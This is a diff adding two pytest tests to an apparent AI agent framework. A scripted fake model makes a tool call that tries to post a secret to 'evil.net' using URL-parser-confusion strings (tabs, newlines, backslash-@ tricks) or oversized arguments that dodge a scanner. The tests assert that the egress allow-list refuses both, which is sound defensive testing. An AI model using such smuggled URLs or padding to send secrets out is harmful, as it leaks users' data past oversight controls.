@@ -227,6 +227,46 @@ async def test_twin_a_network_tool_reaches_an_allowed_host(hostile_repo: Path) -
     assert sent_by_tool == ["https://notes.example.com/x"]
 
 
+@pytest.mark.parametrize("url", [
+    # a browser-style parser (WHATWG: Node's URL and fetch, undici, Playwright) drops tabs and
+    # newlines and reads a backslash as a slash; Python's urlsplit does neither
+    "https://notes.example.com\t.evil.net/x",
+    "https://notes.example.com\n.evil.net/x",
+    "https://evil.net\\@notes.example.com/x",
+    " https://evil.net\\@notes.example.com/x",
+])
+async def test_attack_a_url_another_parser_reads_as_another_host_is_refused(
+        hostile_repo: Path, url: str) -> None:
+    sent_by_tool.clear()
+    script = [Reply(tool_calls=[call("post_note", {"url": url, "text": SECRET})]),
+              Reply(text="ok")]
+    with FakeModelServer(replies=script) as server:
+        agent = Agent("m", base_url=server.base_url, api_key="k", retry=FAST,
+                      tools=[post_note], workdir=str(hostile_repo),
+                      egress_allow=["notes.example.com"])
+        result = await agent.run("go")
+    [posted] = [str(m.content) for m in result.messages if m.role == "tool"]
+    assert "refused to connect to" in posted and "evil.net" in posted, posted
+    assert sent_by_tool == []
+
+
+@pytest.mark.parametrize("arguments", [
+    {"url": "https://notes.example.com/x", "text": "x" * 1_000_001 + " " + EXFIL},
+    {"url": "https://notes.example.com/x", "text": "x" * 999_990 + " " + EXFIL},
+])
+async def test_attack_arguments_too_large_to_scan_are_refused_not_passed(
+        hostile_repo: Path, arguments: dict[str, str]) -> None:
+    sent_by_tool.clear()
+    script = [Reply(tool_calls=[call("post_note", arguments)]), Reply(text="ok")]
+    with FakeModelServer(replies=script) as server:
+        agent = Agent("m", base_url=server.base_url, api_key="k", retry=FAST,
+                      tools=[post_note], workdir=str(hostile_repo),
+                      egress_allow=["notes.example.com"])
+        result = await agent.run("go")
+    [posted] = [str(m.content) for m in result.messages if m.role == "tool"]
+    assert "too large to check" in posted and sent_by_tool == [], posted[:300]
+
+
 # --- the allow-list ----------------------------------------------------------------------------
 
 
